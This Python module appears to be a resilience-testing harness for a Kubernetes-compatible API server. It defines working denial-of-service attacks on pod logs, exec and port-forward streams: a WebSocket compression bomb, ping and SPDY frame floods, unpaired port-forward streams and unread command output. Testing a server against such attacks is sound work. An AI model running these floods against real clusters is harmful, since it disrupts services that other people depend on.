"""Logs, commands and forwarded ports of a pod: many, compressed, in tiny frames, and not read."""

from __future__ import annotations

import asyncio
import zlib
from contextlib import suppress
from typing import Final

from cathedra.node.spdy import Writer
from tools.attack.client import Connection, User
from tools.attack.measuring import Attack, Reached, Scene
from tools.attack.target import MEMBER, NAMESPACE, Cluster

__all__ = ["ATTACKS"]

PODS: Final = f"/api/v1/namespaces/{NAMESPACE}/pods"
POD: Final = f"{PODS}/attacked"
CHANNELS: Final = "v5.channel.k8s.io"
SPDY: Final = "SPDY/3.1"
WAIT_SECONDS: Final = 0.1
PATIENCE_SECONDS: Final = 10.0
"""In which another user's log must have come."""
MASKED: Final = 0x80
BINARY, PING, FIN, COMPRESSED = 0x2, 0x9, 0x80, 0x40


def frame(opcode: int, payload: bytes = b"") -> bytes:
    """A frame of a WebSocket's client, whose mask is zero."""
    size = len(payload)
    if size < 126:
        length = bytes((MASKED | size,))
    elif size < 1 << 16:
        length = bytes((MASKED | 126,)) + size.to_bytes(2, "big")
    else:
        length = bytes((MASKED | 127,)) + size.to_bytes(8, "big")
    return bytes((opcode,)) + length + bytes(4) + payload


async def running(cluster: Cluster) -> None:
    """Make the pod that streams belong to, unless it runs."""
    if (await cluster.member.send("GET", POD)).status != 200:
        container = {"name": "c", "image": "busybox", "command": ["sh", "-c", "echo started; exec sleep 3600"]}
        spec = {"containers": [container], "terminationGracePeriodSeconds": 0}
        await cluster.member.create(PODS, {"metadata": {"name": "attacked"}, "spec": spec})
    while (await cluster.member.send("GET", POD)).json().get("status", {}).get("phase") != "Running":  # noqa: ASYNC110
        await asyncio.sleep(WAIT_SECONDS)


async def command(user: User, words: str, **headers: str) -> tuple[Connection, dict[str, str]]:
    """A command in the pod over a WebSocket, with its input open."""
    query = "&".join(f"command={word}" for word in words.split())
    path = f"{POD}/exec?{query}&stdin=1&stdout=1"
    return await user.upgraded(path, "websocket", Sec_WebSocket_Protocol=CHANNELS, **headers)


async def log_streams(scene: Scene) -> None:
    """More followed logs than a user may have, and another user's log."""
    await running(scene.cluster)
    scene.begin()
    for _ in range(150):
        connection = scene.hold(await scene.cluster.member.connect())
        connection.request("GET", f"{POD}/log?follow=1")
        with suppress(TimeoutError):
            async with asyncio.timeout(0.5):
                await connection.head()
    try:
        async with asyncio.timeout(PATIENCE_SECONDS):
            answer = await scene.cluster.admin.send("GET", f"{POD}/log")
    except TimeoutError:
        raise Reached("another user's log did not come") from None
    if answer.status != 200:
        raise Reached(f"another user's log was answered {answer.status}")


async def compression(scene: Scene) -> None:
    """Compressed messages of 31 MiB each, on WebSockets whose client wants compression."""
    await running(scene.cluster)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(b"\0" * (31 << 20)) + packer.flush(zlib.Z_SYNC_FLUSH)
    bomb = frame(FIN | COMPRESSED | BINARY, packed[:-4])
    scene.begin()
    negotiated = False
    for _ in range(20):
        connection, headers = await command(
            scene.cluster.member, "sleep 60", Sec_WebSocket_Extensions="permessage-deflate"
        )
        scene.hold(connection)
        negotiated |= "deflate" in headers.get("sec-websocket-extensions", "")
        for _ in range(7):
            connection.write(bomb)
    await asyncio.sleep(3)
    if negotiated:
        raise Reached("permessage-deflate was negotiated")


async def pings(scene: Scene) -> None:
    """A flood of pings, whose answers are read."""
    await running(scene.cluster)
    flood = frame(FIN | PING) * 200_000
    scene.begin()
    reading = []
    for _ in range(5):
        connection, _ = await command(scene.cluster.member, "sleep 60")
        scene.hold(connection).write(flood)
        reading.append(asyncio.create_task(_discard(connection)))
    await asyncio.wait(reading, timeout=20)
    for task in reading:
        task.cancel()


async def _discard(connection: Connection) -> None:
    while await connection.reader.read(1 << 20):
        pass


async def spdy_frames(scene: Scene) -> None:
    """A flood of empty frames on the input of a command over SPDY."""
    await running(scene.cluster)
    writer = Writer()
    opened = b"".join(
        writer.open(number, {"streamType": kind}) for number, kind in ((1, "error"), (3, "stdin"), (5, "stdout"))
    )
    empty = b"".join(writer.data(3, b"")) * 200_000
    scene.begin()
    for _ in range(5):
        path = f"{POD}/exec?command=sleep&command=60&stdin=1&stdout=1"
        connection, _ = await scene.cluster.member.upgraded(path, SPDY, X_Stream_Protocol_Version="v4.channel.k8s.io")
        scene.hold(connection).write(opened + empty)
    await asyncio.sleep(15)


async def unpaired_ports(scene: Scene) -> None:
    """Streams of forwarded ports whose partner never comes."""
    await running(scene.cluster)
    scene.begin()
    for _ in range(4):
        writer = Writer()
        path = f"{POD}/portforward"
        connection, _ = await scene.cluster.member.upgraded(path, SPDY, X_Stream_Protocol_Version="portforward.k8s.io")
        scene.hold(connection)
        for number in range(20_000):
            connection.write(
                writer.open(2 * number + 1, {"streamType": "error", "port": "80", "requestID": str(number)})
            )
    await asyncio.sleep(8)


async def unread_commands(scene: Scene) -> None:
    """Commands that print without end, whose output is never read."""
    await running(scene.cluster)
    scene.begin()
    for _ in range(60):
        connection, _ = await command(scene.cluster.member, "yes")
        scene.hold(connection).stop_reading()
    await asyncio.sleep(10)


ATTACKS: Final = (
    Attack("log-streams", "followed logs of one user, and another user's log", "150 streams", MEMBER, log_streams),
    Attack("compression", "compressed WebSocket messages on commands", "20 × 7 × 31 MiB", MEMBER, compression),
    Attack("pings", "WebSocket pings on commands", "5 × 200,000", MEMBER, pings),
    Attack("spdy-frames", "empty SPDY frames on commands", "5 × 200,000", MEMBER, spdy_frames),
    Attack("unpaired-ports", "port-forward streams without their partner", "4 × 20,000", MEMBER, unpaired_ports),
    Attack("unread-commands", "`exec yes`, not read", "60 commands", MEMBER, unread_commands),
)
